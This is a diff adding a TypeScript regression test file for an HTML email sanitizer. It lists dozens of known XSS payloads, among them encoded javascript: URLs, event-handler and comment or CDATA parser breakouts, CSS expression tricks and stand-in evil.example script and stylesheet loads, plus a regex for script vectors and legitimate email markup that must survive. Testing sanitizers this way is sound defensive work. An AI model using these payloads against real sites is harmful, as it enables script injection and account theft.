@@ -0,0 +1,122 @@
+/**
+ * XSS regression corpus for the HTML sanitizer
+ * Known payloads that must be neutralized, plus legitimate email markup that
+ * must survive sanitization.
+ */
+
+import { sanitizeHtml } from '../../src';
+
+/**
+ * Corpus entry
+ */
+interface CorpusEntry {
+  /** Short description of the payload */
+  name: string;
+  /** Input HTML */
+  html: string;
+  /** Must not match the sanitized output */
+  forbidden?: RegExp;
+  /** Must match the sanitized output */
+  preserved?: RegExp;
+}
+
+/**
+ * Matches markup that would run script once rendered
+ */
+const SCRIPT_VECTOR = /<script|<iframe|<object|<embed|<svg|<math|\son[a-z]+\s*=|javascript:|vbscript:|expression\(|-moz-binding|behavior\s*:/i;
+
+const XSS_CORPUS: CorpusEntry[] = [
+  // Script elements
+  { name: 'script element', html: '<p>Hi</p><script>alert(1)</script>', forbidden: /<script|alert/i, preserved: /<p>Hi<\/p>/ },
+  { name: 'uppercase script', html: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', forbidden: /script/i },
+  { name: 'script with attributes split across lines', html: '<script\ntype="text/javascript"\n>alert(1)</script\n>', forbidden: /script|alert/i },
+  { name: 'nested script tags', html: '<scr<script>ipt>alert(1)</scr</script>ipt>', forbidden: /<script/i },
+  { name: 'unterminated script', html: '<p>ok</p><script>alert(1)', forbidden: /script|alert/i, preserved: /<p>ok<\/p>/ },
+  { name: 'script hidden in noscript', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', forbidden: SCRIPT_VECTOR },
+
+  // Event handlers
+  { name: 'img onerror', html: '<img src=x onerror=alert(1)>', forbidden: SCRIPT_VECTOR, preserved: /<img src="x">/ },
+  { name: 'svg onload', html: '<svg onload=alert(1)>', forbidden: SCRIPT_VECTOR },
+  { name: 'svg onload split across lines', html: '<svg\nonload\n=\nalert(1)\n>', forbidden: SCRIPT_VECTOR },
+  { name: 'svg with slash separator', html: '<svg/onload=alert(1)>', forbidden: SCRIPT_VECTOR },
+  { name: 'body onload', html: '<body onload="alert(1)"><p>x</p></body>', forbidden: SCRIPT_VECTOR, preserved: /<body><p>x<\/p><\/body>/ },
+  { name: 'mixed-case handler', html: '<a href="/" OnMouseOver="alert(1)">x</a>', forbidden: SCRIPT_VECTOR, preserved: /<a href="\/">x<\/a>/ },
+  { name: 'handler after quoted slash', html: '<img src="x"/onerror="alert(1)">', forbidden: SCRIPT_VECTOR },
+  { name: 'handler with backtick value', html: '<img src=x onerror=`alert(1)`>', forbidden: SCRIPT_VECTOR },
+  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>', forbidden: SCRIPT_VECTOR },
+
+  // URL schemes
+  { name: 'javascript href', html: '<a href="javascript:alert(1)">x</a>', forbidden: /javascript/i, preserved: /<a>x<\/a>/ },
+  { name: 'javascript href with tab', html: '<a href="java\tscript:alert(1)">x</a>', forbidden: /script:/i },
+  { name: 'javascript href with newline entity', html: '<a href="java&NewLine;script:alert(1)">x</a>', forbidden: /href/i },
+  { name: 'entity-encoded javascript', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', forbidden: /href/i },
+  { name: 'hex entities without semicolons', html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A alert(1)">x</a>', forbidden: /href/i },
+  { name: 'named colon entity', html: '<a href="javascript&colon;alert(1)">x</a>', forbidden: /href/i },
+  { name: 'leading control characters', html: '<a href="\u0001\u0002 javascript:alert(1)">x</a>', forbidden: /href/i },
+  { name: 'vbscript href', html: '<a href="vbscript:msgbox(1)">x</a>', forbidden: /vbscript/i },
+  { name: 'data text/html link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', forbidden: /data:/i },
+  { name: 'data svg image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', forbidden: /data:/i },
+  { name: 'javascript in srcset', html: '<img src="a.png" srcset="a.png 1x, javascript:alert(1) 2x">', forbidden: /srcset|javascript/i, preserved: /src="a\.png"/ },
+  { name: 'javascript in background attribute', html: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', forbidden: /background/i },
+  { name: 'javascript in blockquote cite', html: '<blockquote cite="javascript:alert(1)">x</blockquote>', forbidden: /cite=/i },
+
+  // CSS
+  { name: 'style expression', html: '<div style="width: expression(alert(1))">x</div>', forbidden: /expression|style=/i, preserved: /<div>x<\/div>/ },
+  { name: 'style expression split by comment', html: '<div style="width: expr/**/ession(alert(1))">x</div>', forbidden: /ession/i },
+  { name: 'style expression with css escapes', html: '<div style="width: \\65 xpression(alert(1))">x</div>', forbidden: /xpression/i },
+  { name: 'style javascript url', html: '<div style="background-image: url(javascript:alert(1))">x</div>', forbidden: /javascript/i },
+  { name: 'style entity-encoded url', html: '<div style="background:url(&#106;avascript:alert(1))">x</div>', forbidden: /avascript/i },
+  { name: 'style behavior', html: '<div style="behavior: url(x.htc)">x</div>', forbidden: /behavior/i },
+  { name: 'style -moz-binding', html: '<div style="-moz-binding: url(http://evil.example/x.xml#xss)">x</div>', forbidden: /binding/i },
+  { name: 'style positioning overlay', html: '<div style="position: fixed; top: 0; left: 0; color: red">x</div>', forbidden: /position|top|left/i, preserved: /color: red/ },
+  { name: 'style element breakout', html: '<style>p { color: red }</style><style>a{}</style ><img src=x onerror=alert(1)>', forbidden: SCRIPT_VECTOR, preserved: /p \{color: red\}/ },
+  { name: 'style element import', html: '<style>@import url(//evil.example/x.css); p { color: red }</style>', forbidden: /@import|evil/i, preserved: /color: red/ },
+  { name: 'style element escaped import', html: '<style>@\\69mport url(//evil.example/x.css); p { color: red }</style>', forbidden: /mport|evil/i },
+  { name: 'style element expression in media query', html: '<style>@media screen { p { width: expression(alert(1)); color: red } }</style>', forbidden: /expression/i, preserved: /@media screen/ },
+  { name: 'style element string hiding a brace', html: '<style>a { font-family: "}"; background: url(javascript:alert(1)) }</style>', forbidden: /javascript/i },
+
+  // Embedded content
+  { name: 'iframe', html: '<iframe src="https://evil.example"></iframe>', forbidden: /iframe|evil/i },
+  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', forbidden: /iframe|script/i },
+  { name: 'object data', html: '<object data="javascript:alert(1)"><p>fallback</p></object>', forbidden: /object|javascript|fallback/i },
+  { name: 'embed', html: '<embed src="https://evil.example/x.swf">', forbidden: /embed|evil/i },
+  { name: 'math with link', html: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', forbidden: /math|javascript/i },
+  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', forbidden: /http-equiv/i },
+  { name: 'base href', html: '<base href="https://evil.example/">', forbidden: /base|evil/i },
+  { name: 'form with action', html: '<form action="https://evil.example"><input name="password"><button>Go</button></form>', forbidden: /<form|<input|<button|action/i, preserved: /Go/ },
+
+  // Parser confusion
+  { name: 'comment breakout', html: '<!--><img src=x onerror=alert(1)>-->', forbidden: SCRIPT_VECTOR },
+  { name: 'bang comment close', html: '<!-- x --!><img src=x onerror=alert(1)>', forbidden: SCRIPT_VECTOR },
+  { name: 'cdata section', html: '<![CDATA[<img src=x onerror=alert(1)>]]>', forbidden: SCRIPT_VECTOR },
+  { name: 'conditional comment payload', html: '<!--[if mso]><img src=x onerror=alert(1)><![endif]-->', forbidden: SCRIPT_VECTOR, preserved: /<!--\[if mso\]><img src="x"><!\[endif\]-->/ },
+  { name: 'conditional comment terminator from unwrapped tag', html: '<!--[if mso]>--<x>><img src=x onerror=alert(1)><![endif]-->', forbidden: SCRIPT_VECTOR },
+  { name: 'quote in attribute breakout', html: '<a title=\'"><script>alert(1)</script>\'>x</a>', forbidden: /<script/i },
+  { name: 'unterminated tag', html: '<p>ok</p><img src=x onerror=alert(1)', forbidden: SCRIPT_VECTOR, preserved: /<p>ok<\/p>/ },
+  { name: 'null byte in tag name', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt>', forbidden: /<script/i },
+  { name: 'textarea breakout', html: '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', forbidden: SCRIPT_VECTOR },
+  { name: 'title breakout', html: '<title></title><img src=x onerror=alert(1)></title>', forbidden: SCRIPT_VECTOR },
+
+  // Legitimate email markup
+  { name: 'inline data image', html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">', preserved: /src="data:image\/png;base64,iVBORw0KGgo="/ },
+  { name: 'cid image', html: '<img src="cid:logo@metigan" alt="logo">', preserved: /src="cid:logo@metigan"/ },
+  { name: 'merge tag link', html: '<a href="{{unsubscribe_url}}">Unsubscribe</a>', preserved: /href="\{\{unsubscribe_url\}\}"/ },
+  { name: 'mailto and tel links', html: '<a href="mailto:a@b.com">m</a><a href="tel:+15550100">t</a>', preserved: /mailto:a@b\.com.*tel:\+15550100/ },
+  { name: 'query string entities', html: '<a href="https://example.com/?a=1&amp;b=2">x</a>', preserved: /href="https:\/\/example\.com\/\?a=1&amp;b=2"/ },
+  { name: 'layout table', html: '<table role="presentation" cellpadding="0" cellspacing="0" width="100%"><tr><td align="center" bgcolor="#ffffff">x</td></tr></table>', preserved: /<table role="presentation" cellpadding="0" cellspacing="0" width="100%"><tr><td align="center" bgcolor="#ffffff">x<\/td><\/tr><\/table>/ },
+  { name: 'button styles', html: '<a href="https://example.com" style="background-color: #2563eb; color: #fff; padding: 12px 24px; border-radius: 4px">Buy</a>', preserved: /style="background-color: #2563eb; color: #fff; padding: 12px 24px; border-radius: 4px"/ },
+  { name: 'responsive style block', html: '<style>@media only screen and (max-width: 600px) { .col { width: 100% !important } }</style>', preserved: /@media only screen and \(max-width: 600px\) \{ \.col \{width: 100% !important\}\}/ },
+  { name: 'outlook ghost table', html: '<!--[if mso]><table width="600"><tr><td><![endif]--><div>x</div><!--[if mso]></td></tr></table><![endif]-->', preserved: /<!--\[if mso\]><table width="600"><tr><td><!\[endif\]--><div>x<\/div>/ },
+  { name: 'doctype and meta', html: '<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head></html>', preserved: /^<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">/ },
+  { name: 'text with angle brackets', html: '<p>1 < 2 &amp;&amp; 3 > 2</p>', preserved: /<p>1 &lt; 2 &amp;&amp; 3 > 2<\/p>/ }
+];
+
+describe('sanitizeHtml', () => {
+  it.each(XSS_CORPUS.filter(entry => entry.forbidden).map(entry => [entry.name, entry] as const))('neutralizes %s', (_name, entry) => {
+    expect(sanitizeHtml(entry.html)).not.toMatch(entry.forbidden!);
+  });
+
+  it.each(XSS_CORPUS.filter(entry => entry.preserved).map(entry => [entry.name, entry] as const))('preserves %s', (_name, entry) => {
+    expect(sanitizeHtml(entry.html)).toMatch(entry.preserved!);
+  });
+});